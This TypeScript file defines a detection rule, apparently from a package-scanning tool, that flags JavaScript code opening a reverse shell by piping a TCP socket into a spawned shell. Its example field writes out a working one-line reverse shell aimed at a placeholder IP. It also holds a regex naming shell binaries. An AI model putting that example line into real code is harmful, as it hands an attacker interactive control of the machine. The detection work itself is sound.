import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { calleeName, js, PROCESS_EXEC } from './helpers.js';

const SOCKETS = new Set([
  'net.Socket',
  'net.connect',
  'net.createConnection',
  'tls.connect',
  'net.createServer',
]);
const SHELL = /^(\/bin\/|\/usr\/bin\/)?(sh|bash|zsh|dash|ksh)$|^cmd(\.exe)?$|^powershell(\.exe)?$|^pwsh$/i;

/** Flags a socket wired to a shell: `net.connect(...)` plus `spawn('/bin/sh')` and pipes between them. */
export const reverseShell: JsRule = {
  meta: {
    ...js,
    id: 'JS-017',
    name: 'reverse-shell',
    category: 'backdoor',
    severity: 'critical',
    confidence: 'high',
    description:
      'A file opens a raw TCP socket and starts a shell, piping the socket into the shell (or the shell into the socket), or runs commands received on a socket.',
    rationale:
      'A reverse shell gives the attacker interactive control of the developer machine or CI runner as soon as the package loads.',
    falsePositives: 'Remote-administration tools and terminal servers (node-pty based) — not libraries.',
    example:
      "const s = net.connect(4444, '192.0.2.1'); const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s)",
    references: ['https://attack.mitre.org/techniques/T1059/004/'],
  },
  create(ctx) {
    let socket: Node | undefined;
    let shell: Node | undefined;
    let piped = false;
    let socketExec = false;
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (name && SOCKETS.has(name)) socket ??= node;
      else if (name && PROCESS_EXEC.has(name)) {
        const cmd = ctx.evaluateString(node.arguments?.[0]);
        const opts = node.arguments?.[node.arguments.length - 1];
        const shellOpt =
          opts?.type === 'ObjectExpression' &&
          opts.properties?.some((p: Node) => (p.key?.name ?? p.key?.value) === 'shell');
        if (cmd && SHELL.test(cmd.trim())) shell ??= node;
        // exec(data) where data came from a socket callback
        if (!cmd && (name.endsWith('.exec') || name.endsWith('.execSync') || shellOpt)) {
          const arg = node.arguments?.[0];
          const id = arg?.type === 'Identifier' ? ctx.lookup(arg.name) : undefined;
          if (id?.kind === 'param') {
            const fn = ctx.enclosingFunction();
            const call = fn ? ctx.ancestors[ctx.ancestors.indexOf(fn) - 1] : undefined;
            const method = call?.callee?.property?.name;
            const event = ctx.evaluateString(call?.arguments?.[0]);
            if (method === 'on' && event === 'data' && socket) socketExec = true;
          }
        }
      }
      if (node.callee?.type === 'MemberExpression' && node.callee.property?.name === 'pipe') piped = true;
    };
    return {
      CallExpression: check,
      NewExpression: check,
      'Program:done'() {
        if (!socket) return;
        if (!(shell && piped) && !socketExec) return;
        ctx.facts.capabilities.add('reverse-shell');
        ctx.report({
          node: shell ?? socket,
          message: socketExec
            ? `Runs commands received on a socket (${calleeName(ctx, socket)}).`
            : `Pipes a socket (${calleeName(ctx, socket)}) into a shell (${ctx.evaluateString(shell!.arguments?.[0])}): a reverse shell.`,
          evidence: {
            socket: calleeName(ctx, socket),
            shell: shell && ctx.evaluateString(shell.arguments?.[0]),
          },
        });
      },
    };
  },
};
